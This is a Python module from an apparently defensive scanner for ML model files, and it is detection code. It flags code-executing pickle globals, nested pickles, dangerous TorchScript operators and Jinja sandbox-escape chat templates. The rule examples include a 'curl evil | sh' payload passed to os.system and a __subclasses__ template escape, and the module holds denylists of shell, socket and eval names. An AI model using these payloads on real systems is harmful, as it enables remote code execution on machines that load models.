"""Serialization checks (MS7xx): what a file would make its loader do.

The PyTorch reader never unpickles: its restricted interpreter records every global a
pickle names (``metadata["pickle"]``), and these checks turn that record into findings,
so a scan does not parse the pickle twice. Anything outside the allowlist is a finding;
a short list of known code-execution primitives only raises the severity. The GGUF
chat-template check parses the Jinja template (never renders it) and looks for the
sandbox-escape patterns behind CVE-2024-34359 and its kin.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from typing import Any

from scanner.artifact import Artifact
from scanner.findings import Finding, Location, Severity
from scanner.rulebook import define_rule, finding

_PICKLE_REFS = (
    "https://docs.python.org/3/library/pickle.html#restricting-globals",
    "docs/threats.md#serialization-pickle",
    "docs/hostile-input.md",
)

CODE_EXEC_GLOBAL = define_rule(
    "MS701",
    "pickle-code-execution-global",
    Severity.CRITICAL,
    "Pickle imports a code-execution primitive",
    checks="Every GLOBAL / STACK_GLOBAL / INST in every pickle of a PyTorch checkpoint or bare "
    "pickle, against the allowlist; this rule fires for globals that are known ways to run "
    "code: os / posix / subprocess / sys / socket ..., builtins.eval / exec / getattr / "
    "__import__ / open, dunder attribute chains, copyreg / functools / operator tricks.",
    why="Loading the file with pickle (torch.load without weights_only, joblib, pickle.load) "
    "imports the global and calls it with attacker-chosen arguments: the classic "
    "__reduce__ payload that runs a shell command on load.",
    example="`archive/data.pkl` offset 2: GLOBAL `os.system`, called by REDUCE with "
    "('curl evil | sh',).",
    fix="Do not load the file. Get the model from its source as safetensors; if the "
    "checkpoint is yours, re-save only the state dict (`torch.save(model.state_dict())`).",
    references=_PICKLE_REFS,
)
UNKNOWN_GLOBAL = define_rule(
    "MS702",
    "pickle-unknown-global",
    Severity.HIGH,
    "Pickle imports a global outside the allowlist",
    checks="Globals named by a pickle that are neither in the tensor vocabulary (OrderedDict, "
    "torch rebuild functions, storage types, dtypes) nor known code-execution primitives. "
    "Unknown is a finding: there is no denylist to outgrow.",
    why="Any importable callable can be invoked by REDUCE; whether it is harmful depends on "
    "code modelseal cannot see. Common benign cases (argparse.Namespace, numpy arrays in a "
    "training checkpoint) still mean the file cannot be loaded with weights_only=True.",
    example="`archive/data.pkl` offset 5120: GLOBAL `argparse.Namespace`.",
    fix="Re-save the checkpoint with only tensors and plain containers, or convert to "
    "safetensors. To accept a known benign global, allow this rule for the file in the rules "
    "pack after reviewing the class.",
    references=_PICKLE_REFS,
)
TORCHSCRIPT_CODE = define_rule(
    "MS703",
    "torchscript-code-present",
    Severity.INFO,
    "TorchScript archive carries code",
    checks="TorchScript archives (`constants.pkl`, `code/`): the code files, the operators "
    "they call and the `__torch__` classes their pickles instantiate, as an inventory. The "
    "code is parsed, never compiled or run; MS709 and MS710 judge what it calls.",
    why="torch.jit.load compiles and runs the archive's TorchScript; what the model computes "
    "is that code, not only its weights. Code that calls only torch's computational "
    "operators is ordinary inference code.",
    example="44 code files (1,371 lines) calling 49 operators, all of torch's own "
    "computational vocabulary (aten 44, prim 5).",
    fix="Nothing; informational. Review the code (plain text in the zip) when in doubt.",
    references=("https://pytorch.org/docs/stable/jit.html", "docs/hostile-input.md"),
)
TORCHSCRIPT_DANGEROUS_OP = define_rule(
    "MS709",
    "torchscript-file-process-op",
    Severity.CRITICAL,
    "TorchScript code reaches files, processes, the network or Python",
    checks="Every operator, name, method and import in the archive's `code/` files, against "
    "the operators that read or write files (aten::save, aten::from_file, "
    "debugprims::load_tensor, torch.load), call back into Python (prim::PythonOp), talk to "
    "other processes (rpc, c10d and symmetric-memory collectives), and Python names that "
    "TorchScript never prints (os, subprocess, __import__, eval, exec, open ...), or an "
    "import statement.",
    why="torch.jit.load runs this code: a forward() that saves tensors to a path, reads "
    "/etc/passwd into a tensor or reaches a shell is an attack that lives in the code, not "
    "the weights, and passes every weight check.",
    example='`code/__torch__.py` line 9: `torch.save(x, "/tmp/pwned.pt")` (aten::save).',
    fix="Do not load the archive. Export the model again from reviewed source, or deploy "
    "its weights (safetensors) with reviewed model code.",
    references=(
        "https://pytorch.org/docs/stable/jit.html",
        "docs/threats.md#serialization-torchscript",
        "docs/hostile-input.md",
    ),
)
TORCHSCRIPT_UNVETTED = define_rule(
    "MS710",
    "torchscript-unvetted-code",
    Severity.HIGH,
    "TorchScript code calls something outside torch's operator vocabulary",
    checks="Operators of namespaces other than torch's own computational ones (a custom op "
    "`ops.myns.op`), custom C++ classes (`torch.classes.ns.C`), names, methods or "
    "operators that are neither TorchScript builtins, torch operators nor defined in the "
    "archive, and code files that cannot be parsed as TorchScript source.",
    why="A custom operator or class is native code from a library the loader must have "
    "loaded (torch.ops.load_library): modelseal cannot see what it does, and neither can "
    "a reviewer of the archive. Unknown is a finding: there is no denylist to outgrow.",
    example="`code/__torch__.py` line 8: `ops.evilns.run(x)` (operator of namespace "
    "`evilns`, not torch's).",
    fix="Find out which library provides the operator and review it; allow the rule for "
    "this archive in the rules pack once it is trusted.",
    references=("https://pytorch.org/tutorials/advanced/torch_script_custom_ops.html",),
)
CHAT_TEMPLATE_CODE = define_rule(
    "MS704",
    "gguf-chat-template-code",
    Severity.HIGH,
    "GGUF chat template contains Jinja code-execution patterns",
    checks="`tokenizer.chat_template*` metadata of GGUF files, parsed (not rendered) as Jinja: "
    "dunder or private attribute access (`__class__`, `__globals__`, `__subclasses__`), the "
    "`attr` filter, string constants spelling dunders, sandbox-escape helpers (`lipsum`, "
    "`cycler`, `joiner`, `self`, `config`, `request`), template imports / includes, and "
    "templates that cannot be parsed or nest too deeply to analyse.",
    why="Servers render the chat template with Jinja; an unsandboxed renderer (llama-cpp-"
    "python before 0.2.72, CVE-2024-34359) runs whatever Python the template reaches through "
    "object attributes.",
    example="`{{ ''.__class__.__mro__[1].__subclasses__() }}` in tokenizer.chat_template.",
    fix="Replace the chat template with the upstream one for the model family; render "
    "templates only in a sandboxed environment (jinja2.sandbox.ImmutableSandboxedEnvironment).",
    references=(
        "https://nvd.nist.gov/vuln/detail/CVE-2024-34359",
        "docs/threats.md#serialization-gguf",
    ),
)
NESTED_PICKLE = define_rule(
    "MS705",
    "pickle-nested-payload",
    Severity.HIGH,
    "A pickle hidden inside tensor storage",
    checks="Storage bytes (zip `data/*`, `constants/*`, legacy storages) that start like a "
    "pickle stream and interpret as one (or name globals).",
    why="A second-stage loader can unpickle bytes that travel as an innocent tensor; the "
    "outer pickle passes every allowlist while the payload rides inside the weights.",
    example="`archive/data/3` is a complete pickle naming `posix.system`.",
    fix="Do not use the file; find which code reads that tensor's bytes.",
    references=_PICKLE_REFS,
)
OPAQUE_CONSTRUCT = define_rule(
    "MS706",
    "pickle-unsupported-construct",
    Severity.HIGH,
    "Pickle uses constructs outside the tensor vocabulary",
    checks="Opcodes that name code without a GLOBAL (EXT1/EXT2/EXT4 extension-registry codes), "
    "persistent ids outside a torch container, and extra pickles in the archive that cannot "
    "be interpreted.",
    why="These reach objects through registries and loader hooks that the audit cannot "
    "resolve; a real unpickler would resolve them to arbitrary callables.",
    example="`archive/extra.pkl` offset 14: EXT1 code 240.",
    fix="Re-save the checkpoint with torch.save of a plain state dict.",
    references=_PICKLE_REFS,
)
UNREFERENCED_STORAGE = define_rule(
    "MS707",
    "pytorch-unreferenced-storage",
    Severity.MEDIUM,
    "Checkpoint storage that no tensor uses",
    checks="Members under `data/` or `constants/` of a PyTorch zip that its pickle never names.",
    why="torch.save writes exactly the storages it references; an extra member is bytes "
    "added after the fact, which can carry a payload past tools that only read tensors.",
    example="`archive/data/99` (4 MB) is not referenced by `archive/data.pkl`.",
    fix="Re-save the checkpoint; find out who added the member.",
)
GLOBALS_INVENTORY = define_rule(
    "MS708",
    "pickle-globals-inventory",
    Severity.INFO,
    "Globals referenced by the pickle",
    checks="Lists every distinct global the file's pickle streams name, allowed or not, with "
    "the first opcode offset of each in each stream (in the evidence).",
    why="An auditable inventory: what loading this file with pickle would import.",
    example="`archive/data.pkl`: collections.OrderedDict, torch._utils._rebuild_tensor_v2, "
    "torch.FloatStorage.",
    fix="Nothing; informational.",
)


# -- pickle audit -------------------------------------------------------------------------


def _per_file(artifact: Artifact, key: str) -> Iterator[tuple[str, Mapping[str, Any]]]:
    """(file relpath, metadata) for a single file or every model file of a folder."""
    if key in artifact.metadata and artifact.files:
        yield artifact.files[0].relpath, artifact.metadata
    for rel, meta in (artifact.metadata.get("model_files") or {}).items():
        if isinstance(meta, Mapping) and key in meta:
            yield rel, meta


def _loc(file: str, stream: Mapping[str, Any], offset: int) -> Location:
    base = stream.get("base_offset")
    return Location(file=file, offset=base + offset if isinstance(base, int) else None)


def check_pickle_globals(artifact: Artifact) -> Iterable[Finding]:
    """MS701 / MS702 / MS706 / MS708 from the reader's pickle audit."""
    for file, meta in _per_file(artifact, "pickle"):
        streams = meta["pickle"].get("streams", ())
        inventory: dict[str, dict[str, int]] = {}
        for stream in streams:
            yield from _stream_findings(file, stream)
            for g in stream.get("globals", ()):
                inventory.setdefault(stream["stream"], {}).setdefault(
                    f"{g['module']}.{g['name']}", g["offset"]
                )
        if inventory:
            distinct = sorted({q for per in inventory.values() for q in per})
            yield finding(
                GLOBALS_INVENTORY,
                f"{len(distinct)} distinct globals in {len(inventory)} pickle streams: "
                + ", ".join(distinct[:8])
                + (" ..." if len(distinct) > 8 else ""),
                [Location(file=file)],
                evidence={"streams": inventory},
            )


def _stream_findings(file: str, stream: Mapping[str, Any]) -> Iterator[Finding]:
    name = stream["stream"]
    seen: dict[str, list[dict[str, Any]]] = {}
    for g in stream.get("globals", ()):
        seen.setdefault(f"{g['module']}.{g['name']}", []).append(g)
    calls: dict[str, list[dict[str, Any]]] = {}
    for call in stream.get("calls", ()):
        calls.setdefault(call["callable"].split("(")[0], []).append(call)
    for qualname, refs in seen.items():
        status = refs[0]["status"]
        if status in ("allowed", "torchscript"):
            continue
        rule = CODE_EXEC_GLOBAL if status == "code-execution" else UNKNOWN_GLOBAL
        offsets = [r["offset"] for r in refs]
        invoked = calls.get(qualname, [])
        how = ""
        if invoked:
            first = invoked[0]
            how = f", invoked by {first['how']} at offset {first['offset']} with {first['args']}"
        yield finding(
            rule,
            f"{name}: {refs[0]['opcode']} {qualname} at pickle offset {offsets[0]}{how}",
            [_loc(file, stream, offsets[0])],
            evidence={
                "stream": name,
                "global": qualname,
                "opcode": refs[0]["opcode"],
                "offsets": offsets[:50],
                "invocations": invoked[:10],
            },
        )
    for issue in stream.get("issues", ()):
        yield finding(
            OPAQUE_CONSTRUCT,
            f"{name}: {issue['detail']} at pickle offset {issue['offset']}",
            [_loc(file, stream, issue["offset"])],
            evidence={"stream": name, **issue},
        )


def check_nested_pickles(artifact: Artifact) -> Iterable[Finding]:
    """MS705: pickles inside tensor storages."""
    for file, meta in _per_file(artifact, "pickle"):
        for nested in meta["pickle"].get("nested", ()):
            names = sorted({f"{g['module']}.{g['name']}" for g in nested.get("globals", ())})
            yield finding(
                NESTED_PICKLE,
                f"{nested['where']} holds a pickle stream"
                + (f" naming {', '.join(names[:5])}" if names else ""),
                [Location(file=file, offset=nested.get("base_offset"))],
                evidence={
                    "where": nested["where"],
                    "complete": nested["complete"],
                    "globals": names,
                },
            )


def check_pytorch_layout(artifact: Artifact) -> Iterable[Finding]:
    """MS703 / MS709 / MS710 (TorchScript code) and MS707 (unreferenced storages)."""
    for file, meta in _per_file(artifact, "pytorch"):
        torch_meta = meta["pytorch"]
        ts = torch_meta.get("torchscript")
        if ts:
            yield from _torchscript_findings(file, ts)
        for member in torch_meta.get("unreferenced_storages", ()):
            yield finding(
                UNREFERENCED_STORAGE,
                f"{member} is not referenced by the checkpoint's pickle",
                [Location(file=file)],
                evidence={"member": member},
            )


# -- TorchScript code ---------------------------------------------------------------------

_FILE_PROCESS_OPS = {
    "aten::save": "writes tensors to a file",
    "aten::load": "reads a file",
    "aten::from_file": "reads a file into a tensor",
    "debugprims::load_tensor": "reads a tensor from a file",
    "prim::PythonOp": "calls a Python function",
    "prim::IgnoredPythonOp": "calls a Python function",
    "prim::rpc_async": "calls another process over RPC",
    "prim::rpc_remote": "calls another process over RPC",
    "prim::rpc_sync": "calls another process over RPC",
}
_NETWORK_NAMESPACES = ("c10d", "_c10d_functional", "_c10d_functional_autograd", "symm_mem")
"""Collective communication: operators that exchange data with other processes."""
_PYTHON_NAMES = frozenset(
    {
        "__import__",
        "__builtins__",
        "builtins",
        "eval",
        "exec",
        "compile",
        "open",
        "globals",
        "locals",
        "vars",
        "breakpoint",
        "input",
        "exit",
        "quit",
        "os",
        "posix",
        "nt",
        "sys",
        "subprocess",
        "importlib",
        "socket",
        "shutil",
        "pickle",
        "marshal",
        "ctypes",
        "runpy",
        "signal",
        "pty",
        "urllib",
        "http",
        "requests",
    }
)
"""Python escape routes: TorchScript never prints these; their presence is Python code."""
_DANGEROUS_METHODS = frozenset(
    {
        "system",
        "popen",
        "spawn",
        "spawnl",
        "spawnv",
        "execv",
        "execve",
        "execl",
        "fork",
        "save",
        "load",
        "from_file",
        "open",
        "read",
        "write",
        "remove",
        "unlink",
        "rmdir",
        "rename",
        "load_library",
        "urlopen",
        "connect",
        "send",
        "recv",
    }
)
_DANGEROUS_TORCH_PARTS = frozenset(
    {"load", "save", "_C", "hub", "jit", "distributed", "library", "load_library", "utils"}
)


def _classify_ref(kind: str, name: str) -> tuple[str, str]:
    """``("inference" | "dangerous" | "unknown", why)`` for one reference of the code."""
    from scanner.checks.torchscript_vocab import NAMESPACE_OPS

    if kind == "import":
        return "dangerous", "imports a Python module"
    if kind == "op":
        ns, _, op = name.partition("::")
        if name in _FILE_PROCESS_OPS:
            return "dangerous", _FILE_PROCESS_OPS[name]
        if ns in _NETWORK_NAMESPACES:
            return "dangerous", "exchanges data with other processes (collective communication)"
        if op in NAMESPACE_OPS.get(ns, ()):
            return "inference", ""
        if ns in NAMESPACE_OPS:
            return "unknown", f"is not an operator of torch's {ns} namespace"
        return "unknown", f"is an operator of namespace {ns!r}, from a library torch must load"
    if kind == "class":
        return "unknown", "is a custom C++ class, from a library torch must load"
    if kind == "method":
        if name in _DANGEROUS_METHODS:
            return "dangerous", "is a file, process or network call"
        if any(name in ops for ops in NAMESPACE_OPS.values()):
            return "inference", ""
        return "unknown", "is neither a torch operator nor a method the archive defines"
    root, *rest = name.split(".")
    if root in _PYTHON_NAMES:
        return "dangerous", "is Python, which TorchScript code never names"
    if root == "torch" and _DANGEROUS_TORCH_PARTS & set(rest):
        return (
            "dangerous",
            "is a torch Python function that reaches files, libraries or the network",
        )
    return "unknown", "is neither a TorchScript builtin nor defined in the archive"


def _torchscript_findings(file: str, ts: Mapping[str, Any]) -> Iterator[Finding]:
    """MS703 (inventory), MS709 (file / process / network / Python) and MS710 (code
    outside torch's operator vocabulary, or code that cannot be audited)."""
    code = ts.get("code") or {}
    refs = code.get("refs") or {}
    inference: dict[str, int] = {}
    for ref in refs.values():
        status, why = _classify_ref(ref["kind"], ref["name"])
        if status == "inference":
            ns = ref["name"].split("::")[0] if ref["kind"] == "op" else "method"
            inference[ns] = inference.get(ns, 0) + 1
            continue
        rule = TORCHSCRIPT_DANGEROUS_OP if status == "dangerous" else TORCHSCRIPT_UNVETTED
        where = ref["where"][0] if ref["where"] else "code/"
        yield finding(
            rule,
            f"{where}: {ref['kind']} {ref['name']} {why}"
            + (f" ({ref['count']} uses)" if ref["count"] > 1 else ""),
            [Location(file=file)],
            evidence={"kind": ref["kind"], "name": ref["name"], "where": ref["where"]},
        )
    for problem in code.get("problems") or ():
        yield finding(
            TORCHSCRIPT_UNVETTED,
            f"{problem['file']} cannot be audited: {problem['problem']}",
            [Location(file=file)],
            evidence=dict(problem),
        )
    code_files = ts.get("code_files", [])
    classes = ts.get("classes", [])
    for qualname in classes:
        # The pickles instantiate it: a custom C++ class, not TorchScript of the archive.
        if qualname.startswith("__torch__.torch.classes."):
            yield finding(
                TORCHSCRIPT_UNVETTED,
                f"the pickle instantiates {qualname}, a custom C++ class from a library torch "
                "must load",
                [Location(file=file)],
                evidence={"kind": "class", "name": qualname},
            )
    counted = ", ".join(f"{ns} {n}" for ns, n in sorted(inference.items()))
    yield finding(
        TORCHSCRIPT_CODE,
        f"TorchScript archive with {len(code_files)} code files ({code.get('lines', 0):,} "
        f"lines) and {len(classes)} classes; {sum(inference.values())} distinct calls of "
        f"torch's computational vocabulary ({counted or 'none'}); parsed, not run",
        [Location(file=file)],
        evidence={
            "code_files": code_files[:200],
            "classes": classes[:200],
            "calls": sorted(r["name"] for r in refs.values())[:500],
        },
    )


# -- GGUF chat template ----------------------------------------------------------------------

_ESCAPE_NAMES = frozenset(
    {
        "lipsum",
        "cycler",
        "joiner",
        "self",
        "config",
        "request",
        "url_for",
        "get_flashed_messages",
        "session",
        "g",
        "__builtins__",
        "__import__",
        "os",
        "sys",
    }
)
MAX_TEMPLATE_CHARS = 1 << 20


def template_problems(template: str) -> list[str]:
    """Code-execution patterns in a Jinja template, found by parsing (never rendering)."""
    try:
        import jinja2
        from jinja2 import nodes
    except ImportError:  # fail closed: an unanalysed template is not a clean one
        return ["template cannot be analysed: the jinja2 package is not installed"]
    if len(template) > MAX_TEMPLATE_CHARS:
        return [f"template is {len(template)} characters, too long to analyse"]
    try:
        tree = jinja2.Environment().parse(template)
    except jinja2.TemplateSyntaxError as exc:
        return [f"template does not parse: {exc.message} (line {exc.lineno})"]
    except RecursionError:
        return ["template nests too deeply to analyse"]
    problems: list[str] = []
    stack: list[Any] = [tree]
    while stack:
        node = stack.pop()
        if isinstance(node, nodes.Getattr) and node.attr.startswith("_"):
            problems.append(f"attribute access .{node.attr} (line {node.lineno})")
        elif (
            isinstance(node, nodes.Getitem)
            and isinstance(node.arg, nodes.Const)
            and isinstance(node.arg.value, str)
            and node.arg.value.startswith("_")
        ):
            problems.append(f"item access [{node.arg.value!r}] (line {node.lineno})")
        elif isinstance(node, nodes.Getitem) and isinstance(
            node.arg, (nodes.Concat, nodes.Add, nodes.Filter, nodes.Call, nodes.Mod)
        ):
            # A computed key ('_' ~ '_class_' ~ '_') hides a dunder from the checks above.
            problems.append(f"item access with a computed key (line {node.lineno})")
        elif isinstance(node, nodes.Const) and isinstance(node.value, str) and "__" in node.value:
            problems.append(
                f"string constant {node.value[:40]!r} spells a dunder (line {node.lineno})"
            )
        elif isinstance(node, nodes.Filter) and node.name == "attr":
            problems.append(f"attr filter (line {node.lineno})")
        elif isinstance(node, nodes.Name) and node.name in _ESCAPE_NAMES:
            problems.append(f"reference to {node.name!r} (line {node.lineno})")
        elif isinstance(node, (nodes.Import, nodes.FromImport, nodes.Include, nodes.Extends)):
            problems.append(
                f"{type(node).__name__.lower()} of another template (line {node.lineno})"
            )
        stack.extend(node.iter_child_nodes())
        if len(problems) >= 50:
            break
    return problems


def check_chat_template(artifact: Artifact) -> Iterable[Finding]:
    """MS704 on every ``tokenizer.chat_template*`` value of GGUF metadata."""
    for file, meta in _per_file(artifact, "gguf"):
        for key, value in (meta["gguf"] or {}).items():
            if not key.startswith("tokenizer.chat_template") or not isinstance(value, str):
                continue
            problems = template_problems(value)
            if problems:
                yield finding(
                    CHAT_TEMPLATE_CODE,
                    f"{key}: {problems[0]}"
                    + (f" (+{len(problems) - 1} more)" if len(problems) > 1 else ""),
                    [Location(file=file)],
                    evidence={"key": key, "problems": problems},
                )


SERIALIZATION_CHECKS = (
    check_pickle_globals,
    check_nested_pickles,
    check_pytorch_layout,
    check_chat_template,
)


def check_serialization(artifact: Artifact) -> Iterable[Finding]:
    """All MS7xx checks (the one entry in ``scanner.checks.single.SINGLE_CHECKS``)."""
    for check in SERIALIZATION_CHECKS:
        yield from check(artifact)
